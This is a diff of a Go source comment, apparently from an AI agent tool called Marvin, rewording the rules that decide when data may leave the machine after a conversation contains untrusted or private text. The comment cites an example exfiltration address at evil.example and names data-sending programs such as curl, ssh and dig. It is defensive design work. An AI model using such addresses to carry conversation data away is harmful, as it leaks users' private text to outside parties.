@@ -7,20 +7,19 @@ import (
 	"marvin/tools/internal/permit"
 )
 
-// These rules decide whether data may leave this machine. Once a conversation contains untrusted or
-// private text, an address can carry that text away. For example, a request for
-// https://evil.example/?d=… sends the text after d= to the owner of evil.example. The lookup of a
-// host name can also send text to the owner of the host. Until a conversation contains such text
-// (taint), these rules allow every call that carries no [Personal] value. Afterwards, the decision
-// depends on the effect of the call, on the destination (reach), and on the trust in the
-// destination.
+// These rules decide whether data may leave this machine. An address can carry text away:
+// a request for https://evil.example/?d=… sends the text after "d=" to the owner of evil.example.
+// Even the lookup of a host name can send text to the owner of the host. Until a conversation
+// contains untrusted or private text (taint), the rules allow every call that carries no [Personal]
+// value. Afterward, the decision depends on the effect of the call, on the destination (reach), and
+// on the trust in the destination.
 //
 // Requests to services whose hosts are fixed in the code are allowed, because only the services'
 // operators read them.
 //
-// A command counts as a call to a host that the model chose if its program evidently sends data
-// (curl, ssh, git push with an address, dig, …). Other commands are allowed, and so is every
-// command in a sandbox without network access.
+// A command whose program evidently sends data (curl, ssh, git push with an address, dig, …) counts
+// as a call to a host that the model chose. All other commands are allowed, and so is every command
+// in a sandbox without network access.
 //
 // Marvin asks the user before each call to a host that the model chose, with two exceptions. An
 // address that was in text from the network or from the user is allowed, because such an address
